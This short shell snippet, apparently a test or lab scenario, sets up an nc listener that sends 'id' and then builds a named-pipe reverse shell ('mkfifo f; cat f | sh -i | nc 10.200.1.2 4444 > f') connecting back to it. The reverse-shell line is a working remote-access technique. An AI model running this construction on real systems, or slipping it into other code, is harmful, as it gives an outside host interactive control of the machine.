# A relay: nc has the connection, and the shell a named pipe, which cat reads for it.
peers() { (echo id; sleep 0.5; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  mkfifo f
  cat f | sh -i 2>&1 | timeout 4 nc 10.200.1.2 4444 > f
}
